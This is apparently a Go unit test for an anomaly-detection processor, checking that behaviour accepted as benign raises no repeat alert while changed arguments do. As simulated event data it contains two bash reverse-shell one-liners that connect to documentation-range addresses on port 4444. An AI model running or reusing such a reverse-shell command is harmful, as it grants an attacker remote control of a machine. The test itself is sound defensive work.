// SPDX-License-Identifier: Apache-2.0

package anomalyprocessor

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/meerkat-otel/meerkat/internal/names"
)

// What somebody said is benign raises nothing again, even if a rule of a high level matches it.
func TestAccepted_forGood(t *testing.T) {
	config := quick()
	config.Rules.Builtin = true
	w := newWorld(t, config)
	web := deployment("web")
	w.learns(web, ordinaryTimes)
	shell := executes(server.starts(200, "/bin/bash"), "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
	w.happens(web, shell)
	require.Len(t, w.ids(), 1)
	p := w.core.profiles.Acquire("shop/deployment/web/app")
	open := beside(p).Tracker.Open()
	require.Len(t, open, 1)
	p.Accept(open[0].Keys()...)
	for at := range open[0].Behaviours {
		p.Accept(open[0].Behaviours[at].Excuses...)
	}
	beside(p).Tracker.Close(open[0])
	p.Release()
	w.now = w.now.Add(48 * time.Hour)
	told := len(w.told())
	w.happens(web, shell)
	assert.Len(t, w.told(), told)
	shell.attributes[names.ProcessCommandArgs] = []any{"bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", "--other", "thing"}
	w.happens(web, shell)
	assert.Len(t, w.told(), told+1, "other arguments were not meant")
	w.ends()
}
